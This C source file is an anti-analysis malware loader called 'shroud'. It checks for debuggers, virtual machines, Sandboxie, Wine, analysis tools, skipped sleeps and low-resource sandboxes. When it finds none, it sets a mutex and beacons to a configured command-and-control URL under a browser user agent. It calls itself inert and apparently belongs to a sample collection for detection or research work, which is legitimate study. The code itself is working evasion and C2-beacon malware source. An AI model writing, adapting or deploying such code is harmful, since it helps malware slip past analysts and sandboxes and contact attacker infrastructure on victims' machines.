/* shroud - anti-analysis loader: refuses to run under a debugger (IsDebuggerPresent,
 * CheckRemoteDebuggerPresent, NtQueryInformationProcess), in VirtualBox / VMware / Sandboxie / Wine
 * (processes, registry keys, devices, CPUID vendor) or when a sleep is skipped (GetTickCount and
 * QueryPerformanceCounter), then beacons to CFG_C2.  Inert: see common/inert.h. */
#include <windows.h>
#include <tlhelp32.h>
#include <wininet.h>
#include <cpuid.h>
#include "config.h"
#include "../../common/inert.h"

typedef LONG(WINAPI *fn_NtQueryInformationProcess)(HANDLE, ULONG, PVOID, ULONG, PULONG);

static const char *const vm_procs[] = { CFG_VBOX_SVC, CFG_VBOX_TRAY, CFG_VMTOOLS };
static const char dbg_tools[] = CFG_DBG_TOOLS;

static int debugger(void)
{
    BOOL remote = FALSE;
    ULONG_PTR port = 0;
    fn_NtQueryInformationProcess qip;
    if (IsDebuggerPresent())
        return 1;
    if (CheckRemoteDebuggerPresent(GetCurrentProcess(), &remote) && remote)
        return 2;
    qip = (fn_NtQueryInformationProcess)(void *)GetProcAddress(GetModuleHandleA(CFG_NTDLL), CFG_NTQIP);
    if (qip && qip(GetCurrentProcess(), 7 /* ProcessDebugPort */, &port, sizeof port, NULL) == 0 && port)
        return 3;
    return 0;
}

static int in_list(const char *name, const char *list)
{
    const char *p = list, *q;
    int n = lstrlenA(name);
    while (*p) {
        for (q = p; *q && *q != '|'; q++)
            ;
        if (q - p == n && CompareStringA(LOCALE_INVARIANT, NORM_IGNORECASE, p, n, name, n) == CSTR_EQUAL)
            return 1;
        p = *q ? q + 1 : q;
    }
    return 0;
}

static int virtual_machine(void)
{
    unsigned a, b, c, d;
    char vendor[13];
    HKEY key;
    HANDLE snap, dev;
    PROCESSENTRY32 pe;
    unsigned i;
    __cpuid(0x40000000, a, b, c, d);
    CopyMemory(vendor, &b, 4);
    CopyMemory(vendor + 4, &c, 4);
    CopyMemory(vendor + 8, &d, 4);
    vendor[12] = 0;
    if (lstrcmpA(vendor, CFG_CPUID_VMW) == 0)
        return 1;
    if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, CFG_VBOX_KEY, 0, KEY_READ, &key) == ERROR_SUCCESS ||
        RegOpenKeyExA(HKEY_LOCAL_MACHINE, CFG_VMW_KEY, 0, KEY_READ, &key) == ERROR_SUCCESS) {
        RegCloseKey(key);
        return 2;
    }
    dev = CreateFileA(CFG_VBOX_DEV, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    if (dev != INVALID_HANDLE_VALUE) {
        CloseHandle(dev);
        return 3;
    }
    if (GetModuleHandleA(CFG_SANDBOXIE) != NULL)
        return 4;
    if (GetProcAddress(GetModuleHandleA("kernel32.dll"), CFG_WINE) != NULL)
        return 5;
    snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    pe.dwSize = sizeof pe;
    if (snap != INVALID_HANDLE_VALUE && Process32First(snap, &pe)) {
        do {
            for (i = 0; i < sizeof vm_procs / sizeof vm_procs[0]; i++)
                if (lstrcmpiA(pe.szExeFile, vm_procs[i]) == 0)
                    return 6;
            if (in_list(pe.szExeFile, dbg_tools))
                return 7;
        } while (Process32Next(snap, &pe));
    }
    return 0;
}

static int sleep_skipped(void)
{
    LARGE_INTEGER f, t0, t1;
    DWORD start = GetTickCount();
    SYSTEM_INFO si;
    MEMORYSTATUSEX ms;
    QueryPerformanceFrequency(&f);
    QueryPerformanceCounter(&t0);
    Sleep(CFG_SLEEP_MS);
    QueryPerformanceCounter(&t1);
    GetSystemInfo(&si);
    ms.dwLength = sizeof ms;
    GlobalMemoryStatusEx(&ms);
    if (si.dwNumberOfProcessors < 2 || ms.ullTotalPhys < ((DWORDLONG)2 << 30))
        return 1;
    return GetTickCount() - start < CFG_SLEEP_MS / 2 ||
           (t1.QuadPart - t0.QuadPart) / (f.QuadPart / 1000 + 1) < CFG_SLEEP_MS / 2;
}

static int family_run(void)
{
    HINTERNET net, req;
    HANDLE mutex;
    if (debugger() || virtual_machine() || sleep_skipped())
        return 0;
    mutex = CreateMutexA(NULL, FALSE, CFG_MUTEX);
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
        return 1;
    net = InternetOpenA("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", INTERNET_OPEN_TYPE_PRECONFIG, NULL,
                        NULL, 0);
    if (net == NULL)
        return 2;
    req = InternetOpenUrlA(net, CFG_C2, NULL, 0, INTERNET_FLAG_RELOAD, 0);
    if (req)
        InternetCloseHandle(req);
    InternetCloseHandle(net);
    return 0;
}

#include "../../common/winentry.h"
